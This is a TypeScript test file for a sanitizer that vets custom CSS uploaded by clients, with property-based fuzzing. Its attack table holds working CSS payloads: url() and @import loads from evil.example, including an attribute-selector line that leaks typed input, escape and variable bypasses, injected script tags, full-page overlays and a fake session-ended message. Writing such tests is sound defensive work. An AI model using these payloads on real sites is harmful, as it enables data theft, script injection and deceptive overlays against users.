import { CLIENT_CSS_MAX_FAULTS } from '@reviews/domain';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { checkClientCss, cssFaultTexts } from './client-css.ts';

/** Each attack and the error it gets. */
const ATTACKS: readonly (readonly [what: string, css: string, told: RegExp])[] = [
  // Loads from elsewhere: another sheet, an image, a font, and every way to spell url.
  ['another sheet', '@import url("https://evil.example/a.css");', /@import/],
  ['another sheet by a text', '@import "//evil.example/a.css";', /@import/],
  ['another sheet within a rule for screens', '@media screen { @import "a.css"; }', /@import/],
  ['another sheet by an escape', '@\\69mport "a.css";', /not allowed/],
  ['an image', 'a { background: url(https://evil.example/a.png) }', /cannot load anything/],
  [
    'an image in quotes',
    'a { background-image: url("https://evil.example/?x") }',
    /cannot load anything/,
  ],
  [
    'an image of the page itself',
    'a { background: url(data:image/svg+xml,<svg/>) }',
    /cannot load anything/,
  ],
  ['an image by an escape', 'a { background: u\\72l(a.png) }', /not recognised|not allowed here/],
  ['an image in capitals', 'a { background: URL(//evil.example/a.png) }', /cannot load anything/],
  ['an image by a set', 'a { background: image-set("a.png" 1x) }', /cannot load anything/],
  ['an image by src()', 'a { background: src("a.png") }', /cannot load anything/],
  [
    'an image by cross-fade()',
    'a { background: cross-fade(url(a.png), red) }',
    /cannot load anything/,
  ],
  [
    'an image by a variable',
    'a { --client-x: url(//evil.example/a.png); background: var(--client-x) }',
    /cannot load anything/,
  ],
  [
    'an image where a variable is missing',
    'a { background: var(--client-x, url(//evil.example/a.png)) }',
    /cannot load anything/,
  ],
  ['a font', '@font-face { font-family: x; src: url(//evil.example/x.woff2) }', /@font-face/],
  [
    'what was typed, letter by letter',
    'input[value^="a"] { background: url(//evil.example/a) }',
    /cannot load anything/,
  ],
  ['a sheet under another alphabet', '@charset "utf-7"; a { color: red }', /@charset/],
  ['another language of names', '@namespace svg url(http://www.w3.org/2000/svg);', /@namespace/],
  // Runs code.
  ['an expression', 'a { color: expression(alert(1)) }', /expression\(\)/],
  ['a behaviour', 'a { behavior: url(a.htc) }', /behavior/],
  ['a binding', 'a { -moz-binding: url(a.xml#x) }', /-moz-binding/],
  ['a filter', 'a { filter: progid:DXImageTransform.Microsoft.gradient() }', /filter|not CSS/],
  ['a script behind the sheet', 'a { color: red } </style><script>alert(1)</script>', /HTML tags/],
  ['a script in a comment', '/* </style><script>alert(1)</script> */', /HTML tags/],
  ['the comment of a page', '<!-- a { color: red } -->', /HTML tags/],
  ['a script by its address', 'a { background: javascript:alert(1) }', /./],
  // Covers, moves or hides content.
  ['a layer over everything', 'div { position: fixed; inset: 0; z-index: 9999 }', /position/],
  ['the same by an escape', 'div { posi\\74ion: fixed }', /not allowed here/],
  ['the same by a hack', 'div { *position: fixed; _position: fixed }', /not allowed here/],
  ['a shadow over everything', 'a { box-shadow: 0 0 0 9999px #fff }', /too large/],
  ['the same by a large number', 'a { box-shadow: 0 0 0 1e9px #fff }', /too large/],
  ['the same by arithmetic', 'a { box-shadow: 0 0 0 calc(60px * 100) #fff }', /calc\(\)/],
  ['the same by the window', 'a { padding: 100vh }', /vh/],
  [
    'the same by a variable',
    ':root { --client-x: 9999px } a { outline: var(--client-x) solid red }',
    /too large/,
  ],
  ['what is drawn over others by moving', 'a { margin: -64px }', /move things/],
  ['the same where a variable is missing', 'a { margin: var(--client-x, -64px) }', /move things/],
  [
    'lines as high as the window where a variable is missing',
    'a { line-height: var(--client-x, 900) }',
    /too large/,
  ],
  [
    'a large measure of the widgets',
    'a { padding: var(--mantine-breakpoint-xl) }',
    /--mantine-breakpoint-xl/,
  ],
  ['the same by an escape', 'a { padding: var(\\2d-mantine-breakpoint-xl) }', /./],
  [
    'the same as what another variable holds',
    ':root { --client-x: var(--mantine-breakpoint-xl) } a { padding: var(--client-x) }',
    /--mantine-breakpoint-xl/,
  ],
  ['spaces as wide as the window', 'header { padding: 200% }', /too large/],
  [
    'the same by a variable',
    ':root { --client-x: 100% } header { margin-left: var(--client-x) }',
    /too large/,
  ],
  [
    'letters that grow within each other, and a shadow measured by them',
    ':root { font-size: 64px } body { font-size: 4em } main { font-size: 4em; box-shadow: 0 0 0 4em #fff }',
    /A font size must be/,
  ],
  ['the same in short', 'body { font: 4em/1.2 serif }', /A font size must be/],
  ['the same by a share', '* { font-size: 200% }', /A font size must be/],
  ['the same by a word', '* { font-size: larger }', /A font size must be/],
  [
    'the same by a variable',
    '* { --client-x: 4em; font-size: var(--client-x) }',
    /A font size must be/,
  ],
  ['letters without a size', 'header { font-size: 0 }', /A font size must be/],
  ['the same in short', 'header { font: 0 serif }', /A font size must be/],
  ['the same in a unit', 'header { font-size: 0.1px }', /A font size must be/],
  ['the same by a transformation', 'a { transform: scale(100) }', /transform/],
  ['nothing to be seen', 'header { display: none }', /display/],
  ['the same by transparency', 'header { opacity: 0 }', /opacity/],
  ['the same by its visibility', 'header { visibility: hidden }', /visibility/],
  ['the same by a clip', 'header { clip-path: inset(100%) }', /clip-path/],
  ['nothing to be pressed', 'button { pointer-events: none }', /pointer-events/],
  ['another pointer', '* { cursor: none }', /cursor/],
  ['words of its own', 'body::after { content: "Your session has ended. Call 555" }', /content/],
  ['everything at once', '* { all: unset }', /all/],
  ['what moves', '@keyframes x { to { translate: 100% } }', /@keyframes/],
  ['the layers of the product', '@layer base { a { color: red } }', /@layer/],
  ["the product's measures", ':root { --bar-height: 64px }', /--bar-height/],
  ["the widgets' measures", ':root { --mantine-z-index-modal: 1 }', /--mantine-z-index-modal/],
  ['a variable for all', '@property --client-x { syntax: "*"; inherits: true }', /@property/],
  // Attacks the parser.
  ['what never ends', 'a { color: red; }} b {{{', /not valid CSS/],
  ['what is nested without end', `${'a{'.repeat(5000)}`, /too many nested levels/],
  ['brackets without end', `a { color: ${'('.repeat(5000)} }`, /too many nested levels/],
  ['a text without end', 'a { font-family: "x\n; position: fixed }', /./],
];

describe('checkClientCss', () => {
  it.each(ATTACKS)('[RT-48] refuses %s', (_what, css, told) => {
    const { faults, sheet } = checkClientCss(css);
    expect(sheet).toBeNull();
    expect(faults.map(({ text }) => text).join('\n')).toMatch(told);
  });

  it.each([
    [
      'colours and corners of the product',
      ':root { --accent-fill: #123456; --radius: 2px }',
      ':root{--accent-fill:#123456;--radius:2px}',
    ],
    [
      'variables of its own',
      ':root { --client-gold: oklch(80% 0.1 90) } h1 { color: var(--client-gold, gold) }',
      ':root{--client-gold:oklch(80%0.1 90)}h1{color:var(--client-gold,gold)}',
    ],
    [
      'what is important',
      'a:hover, a[href^="/pulses"] { text-decoration: underline !important }',
      'a:hover,a[href^="/pulses"]{text-decoration:underline!important}',
    ],
    [
      'small windows and dark rooms',
      '@media (width < 600px) and (prefers-color-scheme: dark) { body { line-height: 1.6 } }',
      '@media (width<600px) and (prefers-color-scheme:dark){body{line-height:1.6}}',
    ],
    [
      'rules within rules',
      'nav { & a { font-weight: 700; letter-spacing: -0.02em } }',
      'nav{& a{font-weight:700;letter-spacing:-0.02em}}',
    ],
    [
      'gradients',
      'h1 { background: linear-gradient(90deg, #fff 0%, #eee 100%) }',
      'h1{background:linear-gradient(90deg,#fff 0%,#eee 100%)}',
    ],
    [
      'sizes of type, alone and in short',
      'h1 { font-size: 2rem } p { font: 700 14px/1.5 serif } small { font-size: x-small }',
      'h1{font-size:2rem}p{font:700 14px/1.5 serif}small{font-size:x-small}',
    ],
    [
      'names of fonts',
      'h1 { font-family: "Iowan Old Style", serif }',
      'h1{font-family:"Iowan Old Style",serif}',
    ],
    [
      'comments, which are not served',
      '/* the blue of 2024 */ a { color: #0000ff } /*! kept? */',
      'a{color:#0000ff}',
    ],
    ['nothing', '', ''],
  ])('[RT-48, NAV-31] accepts %s, rewritten from the parsed sheet', (_what, css, sheet) => {
    const checked = checkClientCss(css);
    expect(checked.faults).toEqual([]);
    expect(checked.sheet).toBe(sheet);
  });

  it('[RT-48] reports faults by line and column in order, and counts those beyond the first few', () => {
    const told = cssFaultTexts(
      checkClientCss('a {\n  color: red;\n  position: fixed;\n}\n\nb { background: url(x) }')
        .faults,
    );
    expect(told).toEqual([
      'Line 3, column 3: position is not allowed here. A style can change how things look, but not their position or whether they are shown.',
      'Line 6, column 17: A style cannot load anything. You can upload a logo above.',
    ]);
    const many = cssFaultTexts(
      checkClientCss('a { float: left }\n'.repeat(CLIENT_CSS_MAX_FAULTS + 3)).faults,
    );
    expect(many).toHaveLength(CLIENT_CSS_MAX_FAULTS + 1);
    expect(many.at(-1)).toBe('And 3 more.');
  });

  it('[RT-48] gives its own output the same verdict as its input, and never throws, whatever is typed', () => {
    const pieces = fc.constantFrom(
      ...ATTACKS.map(([, css]) => css.slice(0, 60)),
      'a',
      '{',
      '}',
      ';',
      ':',
      'color',
      'red',
      '\\',
      '"',
      "'",
      '/*',
      '*/',
      '@media',
      '(',
      ')',
      'url(',
      '\u0000',
      '\uFEFF',
      '--client-x',
      'var(--ink)',
      '64px',
      '!important',
      ',',
      '\n',
      '<',
      '>',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
        const { sheet } = checkClientCss(parts.join(' '));
        if (sheet === null) return;
        expect(sheet).not.toMatch(/url\(|@import|<\/|position/i);
        expect(checkClientCss(sheet)).toEqual({ faults: [], sheet });
      }),
      { numRuns: 1000 },
    );
  });
});
